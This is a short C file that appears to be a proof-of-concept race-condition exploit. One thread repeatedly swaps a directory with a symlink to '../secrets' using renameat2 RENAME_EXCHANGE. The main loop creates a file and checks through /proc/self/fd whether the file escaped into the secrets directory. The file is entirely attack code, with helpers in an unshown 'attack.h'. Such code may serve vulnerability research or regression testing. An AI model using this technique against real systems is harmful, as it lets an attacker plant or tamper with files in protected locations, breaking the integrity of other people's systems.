/* A second thread exchanges a directory with a link to the secrets while a file is made in it. */
#include "attack.h"
static void *swap(void *unused) {
    for (;;) syscall(SYS_renameat2, AT_FDCWD, "src/d", AT_FDCWD, "src/e", 2u /* RENAME_EXCHANGE */);
    return unused;
}
static int try_once(void) {
    char self[64], where[4200] = "";
    int fd = open("src/d/planted", O_CREAT | O_WRONLY, 0644);
    if (fd < 0) return 0;
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    if (readlink(self, where, sizeof where - 1) < 0) return 0;
    close(fd);
    return strstr(where, "/secrets/planted") != 0;
}
int main(int argc, char **argv) {
    (void)argc;
    if (mkdir("src/d", 0755) || symlink("../secrets", "src/e")) return 1;
    return race(argv, swap, try_once);
}
